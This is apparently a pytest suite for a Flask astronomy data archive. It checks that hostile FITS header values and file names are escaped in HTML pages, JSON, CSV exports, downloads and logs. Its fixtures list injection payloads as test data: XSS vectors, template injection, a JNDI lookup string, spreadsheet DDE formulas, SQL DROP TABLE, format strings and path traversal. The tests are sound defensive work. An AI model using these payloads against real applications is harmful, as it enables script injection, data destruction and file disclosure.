"""What a header says is shown as text wherever it is shown: pages, JSON, CSV, logs."""

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any, Final

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select

from app import paths
from app.db import db
from app.models import Frame, ScannedFile
from app.services import ingest, select_child, select_postgresql_child
from tests import select_role
from tests.app.services.rawfiles import fits_bytes, store

MARK: Final = "kwyjibo"
# As one quoted FITS value may hold them: at most 68 characters, quotes doubled.
TEXTS: Final = (
    f"<script>alert({MARK})</script>",
    f'"><img src=x onerror=alert({MARK})>',
    f"'' onmouseover=alert({MARK}) x=''",
    f"</title><svg onload=alert({MARK})>",
    f"</textarea></select><b>{MARK}",
    f"javascript:alert({MARK})",
    f"{{{{7*7}}}} {MARK}",
    f"{{% include ''/etc/passwd'' %}} {MARK}",
    f"${{jndi:ldap://x/{MARK}}}",
    f'=HYPERLINK("http://x/{MARK}")',
    f"=cmd|'' /C calc''!A0 {MARK}",
    f"+SUM(1+1)*cmd|{MARK}",
    f"@SUM(1,{MARK})",
    f"''; DROP TABLE frames; -- {MARK}",
    f'a"b\\c/{MARK}',
    f"--> ]]> <!-- {MARK}",
    f"%s %n %x {MARK} %(name)s",
    f"../../../etc/{MARK}",
    f"{MARK}&copy;&#0;",
)
KEYWORDS: Final = ("OBJECT", "OBSERVER", "PROPID", "FILTER", "TELESCOP", "INSTRUME", "COMMENT1")
NAMES: Final = (
    "<img src=x onerror=alert(kwyjibo)>.fits",
    "=cmd|kwyjibo!A0.fits",
    "a'b\"kwyjibo.fits",
)


@pytest.fixture
def frame_ids(app: Flask) -> list[int]:
    """Frames of a night whose headers say such things."""
    raw = paths.current().raw
    for number, text in enumerate(TEXTS):
        cards: dict[str, Any] = dict.fromkeys(KEYWORDS, text) | {"EXPTIME": number + 1.0}
        store(raw / f"hostile{number}.fits", fits_bytes(**cards))
    for number, name in enumerate(NAMES):
        store(raw / name, fits_bytes(OBJECT=MARK, EXPTIME=99.0 + number))
    store(raw / f"<b onclick=alert({MARK})>.fits", b"SIMPLE  = <script>" * 300)
    ingest.scan("")
    found = list(db.session.scalars(select(Frame.id)))
    assert len(found) >= len(TEXTS)
    assert db.session.scalar(select(ScannedFile.id).where(ScannedFile.state == "quarantined"))
    return found


def night(frame_id: int) -> str:
    frame = db.session.get_one(Frame, frame_id)
    return frame.night.isoformat() if frame.night else "undated"


def test_no_page_takes_a_header_for_markup(
    staff_client: FlaskClient,
    frame_ids: list[int],
    record_property: Callable[[str, object], None],
) -> None:
    staff_client.post("/blocks/", data={"kind": "sci", "start": night(frame_ids[0])})
    pages = ["/", "/frames/", "/blocks/", "/quarantine/", "/quarantine/?state=quarantined"]
    pages += ["/quarantine/?state=registered", "/people/proposals/", "/settings/", "/jobs/"]
    pages += [f"/night/{night(frame_ids[0])}/", f"/blocks/plan/?night={night(frame_ids[0])}"]
    pages += [f"/frames/{frame_id}/" for frame_id in frame_ids]
    pages += [f"/blocks/{number}/" for number in range(1, 8)]
    pages += [f"/frames/?object={MARK}%22%3E%3Cscript%3E", "/frames/?name_has=%3Cscript%3Ekwyjibo"]
    held = 0

    for page in pages:
        text = staff_client.get(page).text
        held += text.count(MARK)
        for bad in ("<script>alert", "<img src=x", "<svg onload", "<b onclick", "</textarea></sel"):
            assert bad not in text, page
        assert f"onmouseover=alert({MARK}) x='" not in text.replace("&#39;", ""), page
        assert "49 kwyjibo" not in text, page
        assert 'href="javascript:' not in text.lower(), page

    counts = {"texts": len(TEXTS), "pages": len(pages), "places that show one": held}
    record_property("counted: hostile headers", counts)
    assert held > 10 * len(TEXTS)


def test_every_answer_of_an_api_is_sound_json_with_the_text_as_it_was(
    staff_client: FlaskClient, frame_ids: list[int]
) -> None:
    asked = {"type": "get", "startDate": "2025-11-01", "endDate": "2025-11-30"}
    answers = [
        staff_client.get("/frames/?format=json&limit=1000"),
        staff_client.get("/api/files/"),
        staff_client.get("/api/files/?page=2"),
        staff_client.get("/api/proposals/"),
        staff_client.post("/reduction/individualfile", json=asked),
        *(staff_client.get(f"/api/files/header/?id={frame_id}") for frame_id in frame_ids),
    ]
    words = json.dumps([json.loads(answer.text) for answer in answers], ensure_ascii=False)

    for text in TEXTS:
        said = text.replace("''", "'").rstrip()
        assert json.dumps(said)[1:-1] in words or json.dumps(said.replace(" ", "-"))[1:-1] in words
    for answer in answers:
        assert answer.mimetype == "application/json"
        assert answer.headers["X-Content-Type-Options"] == "nosniff"


def test_no_cell_of_a_select_is_a_formula(staff_client: FlaskClient, frame_ids: list[int]) -> None:
    if select_role.is_postgresql():
        pytest.skip("the reading role is a test of its own; the cells are tested below")
    query = "select file_name, field, file_path, band, exptime, crval1 from files_individualfile"

    answer = staff_client.post("/reduction/rawQuery", json={"query": query}).get_json()
    with staff_client.get(f"/media/{answer['file']}") as response:
        rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))

    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) == len(frame_ids) + 1
    assert [cell for cell in cells if cell[:1] in {"=", "@"}] == []
    assert "'=cmd|kwyjibo!A0.fits" in cells


@pytest.mark.parametrize("program", [select_child, select_postgresql_child])
def test_only_what_a_spreadsheet_would_run_is_marked_as_text(program: object) -> None:
    plain = program.plain  # type: ignore[attr-defined]
    for text in ("=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|x", "\t=1", "\r=1"):
        assert plain(text) == f"'{text}"
    for text in ("", "M 31", "-30 12 45", "+1", "-1.5e-3", "2026-11-20", "a=b", "HD +12 345", "-"):
        assert plain(text) == text


def test_a_file_is_sent_under_a_name_and_type_no_browser_runs(
    staff_client: FlaskClient, frame_ids: list[int]
) -> None:
    for frame_id in frame_ids:
        with staff_client.get(f"/frames/{frame_id}/download/") as response:
            disposition = response.headers["Content-Disposition"]
            assert response.status_code == 200
            assert disposition.startswith("attachment")
            assert "\n" not in disposition
            assert response.mimetype == "application/fits"
            assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_the_log_keeps_one_line_for_one_line(app: Flask, frame_ids: list[int]) -> None:
    log = Path(paths.current().main_log)

    lines = log.read_text().splitlines() if log.exists() else []

    assert all(" - " in line or line.startswith((" ", "Traceback")) for line in lines)
